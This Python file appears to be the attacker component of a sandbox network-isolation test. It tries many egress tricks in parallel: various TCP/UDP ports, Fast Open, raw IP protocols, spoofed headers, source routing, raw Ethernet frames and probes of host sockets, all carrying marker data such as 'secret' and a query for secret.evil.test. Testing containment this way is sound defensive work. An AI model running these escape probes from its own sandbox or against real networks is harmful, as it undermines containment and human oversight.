"""The hostile code. Runs inside of a sandbox with nothing but Python's standard library.

Usage: python3 - '{"tcp": {"to": "93.0.0.1"}, ...}' < attacker.py
Each attack runs in a thread of its own and aims at an address that nobody else aims at, so a capture
outside tells which one got through. What is printed, {"tcp": "what the attacker saw"}, is for people and
for errors of the kernel that are a promise (EPERM); whether something left is never taken from here.
"""
import concurrent.futures
import ctypes
import errno
import json
import os
import socket
import struct
import sys

WAIT = 2.0
ATTACKS = {}
QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06secret\x04evil\x04test\0" + b"\0\1\0\1"
IP_OPTIONS, IP_TRANSPARENT, SO_BINDTODEVICE, SO_MARK = 4, 19, 25, 36
MSG_FASTOPEN = 0x20000000
LIBC = ctypes.CDLL(None, use_errno=True)


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def tcp_to(family, address, port, prepare=lambda s: None, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(WAIT)
        prepare(s)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        return s.recv(200).decode("latin-1")


def udp_to(family, address, port, data=QUERY, prepare=lambda s: None, protocol=0):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(WAIT)
        prepare(s)
        s.sendto(data, (address, port))
        return s.recvfrom(200)[0].decode("latin-1")


# -- past the proxy, to the outside --------------------------------------------------------------------

@attack
def tcp(to):
    return tcp_to(socket.AF_INET, to, 80)


@attack
def tcp_tls(to):
    return tcp_to(socket.AF_INET, to, 443)


@attack
def tcp_dns(to):
    return tcp_to(socket.AF_INET, to, 53)


@attack
def tcp_dot(to):
    return tcp_to(socket.AF_INET, to, 853)


@attack
def tcp_smtp(to):
    return tcp_to(socket.AF_INET, to, 25)


@attack
def tcp_low_port(to):
    """From a source port that only root may take."""
    return tcp_to(socket.AF_INET, to, 80, lambda s: s.bind(("", 22)))


@attack
def tcp_fast_open(to):
    """Data in the very first packet."""
    with socket.socket() as s:
        s.settimeout(WAIT)
        s.sendto(b"secret", MSG_FASTOPEN, (to, 80))
        return s.recv(100).decode("latin-1")


@attack
def tcp_mapped(to):
    """By an IPv6 socket, to the address in its mapped form."""
    return tcp_to(socket.AF_INET6, "::ffff:" + to, 80)


@attack
def tcp_bound_to_device(to):
    return tcp_to(socket.AF_INET, to, 80, lambda s: s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0"))


@attack
def tcp_marked(to):
    """A mark that a rule of the host might let pass."""
    return tcp_to(socket.AF_INET, to, 80, lambda s: s.setsockopt(socket.SOL_SOCKET, SO_MARK, 1))


@attack
def mptcp(to):
    return tcp_to(socket.AF_INET, to, 80, protocol=262)


@attack
def udp_dns(to):
    return udp_to(socket.AF_INET, to, 53)


@attack
def udp_quic(to):
    return udp_to(socket.AF_INET, to, 443, b"\xc0\0\0\0\1" + bytes(1195))


@attack
def udp_large(to):
    """Fragments: the later ones have no ports that a filter could look at."""
    return udp_to(socket.AF_INET, to, 9999, bytes(8000))


@attack
def udp_lite(to):
    return udp_to(socket.AF_INET, to, 53, protocol=136)


@attack
def udp_source_routed(to, proxy=None):
    """Loose source route by way of the proxy, or of the router."""
    if proxy is None:
        proxy = gateway()
    route = bytes([131, 7, 4]) + socket.inet_aton(proxy) + b"\0"
    return udp_to(socket.AF_INET, to, 53, prepare=lambda s: s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, route))


@attack
def udp_transparent(to):
    def prepare(s):
        s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
        s.bind(("93.184.215.78", 0))
    return udp_to(socket.AF_INET, to, 53, prepare=prepare)


@attack
def ping_socket(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(WAIT)
        s.sendto(b"\x08\0\0\0\0\1\0\1secret", (to, 0))
        return s.recv(100).hex()


@attack
def icmp_raw(to):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(WAIT)
        s.sendto(b"\x08\0" + struct.pack("!H", 0xffff & ~0x0803) + b"\0\1\0\1", (to, 0))
        return s.recv(100).hex()


def raw_protocol(number):
    def send(to):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as s:
            s.sendto(b"secret" * 4, (to, 0))
        return "sent"
    send.__name__ = f"ip_protocol_{number}"
    return send


for protocol in (2, 4, 41, 47, 50, 89, 112, 253):
    attack(raw_protocol(protocol))


@attack
def raw_header(to):
    """A whole IP packet of its own, with a source that is not its own."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton("93.184.215.79"),
                       socket.inet_aton(to))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(head + struct.pack("!HHHH", 5353, 53, 8, 0), (to, 0))
    return "sent"


@attack
def sctp(to):
    return tcp_to(socket.AF_INET, to, 80, protocol=132)


@attack
def dccp(to):
    with socket.socket(socket.AF_INET, 6, 33) as s:
        s.settimeout(WAIT)
        s.connect((to, 80))
    return "connected"


@attack
def tcp6(to):
    return tcp_to(socket.AF_INET6, to, 80)


@attack
def udp6(to):
    return udp_to(socket.AF_INET6, to, 53)


@attack
def ping6(to):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.settimeout(WAIT)
        s.sendto(b"\x80\0\0\0\0\1\0\1secret", (to, 0))
        return s.recv(100).hex()


# -- frames ------------------------------------------------------------------------------------------------

def frame_to(hardware, to, source):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(to))
    total = sum(struct.unpack("!10H", head))
    total = ~(total + (total >> 16)) & 0xffff
    head = head[:10] + struct.pack("!H", total) + head[12:]
    return hardware + own_hardware() + b"\x08\x00" + head + struct.pack("!HHHH", 5353, 53, 8, 0)


def frames(to, hardware, source=None):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0x0800))
        s.send(frame_to(bytes.fromhex(hardware), to, source or own_address()))
    return "sent"


@attack
def frame(to, hardware):
    return frames(to, hardware)


@attack
def frame_spoofed(to, hardware, source="93.184.215.80"):
    return frames(to, hardware, source)


@attack
def frame_cooked(to, hardware):
    """The kernel writes the frame's head."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as s:
        s.sendto(frame_to(b"", to, own_address())[8:], ("eth0", 0x0800, 0, 0, bytes.fromhex(hardware)))
    return "sent"


@attack
def frame_express(to):
    """AF_XDP: frames past the kernel's network layers."""
    socket.socket(44, socket.SOCK_RAW).close()
    return "opened"


# -- to the machine ----------------------------------------------------------------------------------------

@attack
def machine_tcp(to, port, token):
    with socket.create_connection((to, port), WAIT) as s:
        s.sendall(token.encode())
        return s.recv(100).decode("latin-1")


@attack
def machine_udp(to, port, token, device=None):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        where = socket.getaddrinfo(to + ("%eth0" if device else ""), port, family, socket.SOCK_DGRAM)[0][4]
        s.sendto(token.encode(), where)
        return s.recv(100).decode("latin-1")


@attack
def machine_ping(to):
    return ping_socket(to)


@attack
def machine_abstract(name, token):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(WAIT)
        s.connect("\0" + name)
        s.sendall(token.encode())
        return s.recv(100).decode("latin-1")


# -- what there is ------------------------------------------------------------------------------------------

def own_address():
    with open("/proc/net/fib_trie", encoding="ascii") as trie:
        lines = trie.read().split("\n")
    found = [lines[i - 1].split()[-1] for i, line in enumerate(lines) if "/32 host LOCAL" in line]
    return next((address for address in found if not address.startswith("127.")), "127.0.0.1")


def own_hardware():
    try:
        with open("/sys/class/net/eth0/address", encoding="ascii") as address:
            return bytes.fromhex(address.read().strip().replace(":", ""))
    except OSError:
        return b"\2\0\0\0\0\1"


def gateway():
    with open("/proc/net/route", encoding="ascii") as table:
        for line in table.read().split("\n")[1:]:
            fields = line.split()
            if len(fields) > 2 and fields[1] == "00000000":
                return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    return "127.0.0.1"


def run_one(name, parameters):
    try:
        return "ok: " + str(ATTACKS[name.split("/")[0]](**parameters))
    except OSError as problem:
        return errno.errorcode.get(problem.errno, type(problem).__name__)


def main(orders):
    with concurrent.futures.ThreadPoolExecutor(len(orders)) as pool:
        running = {name: pool.submit(run_one, name, parameters) for name, parameters in orders.items()}
        print(json.dumps({name: done.result() for name, done in running.items()}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
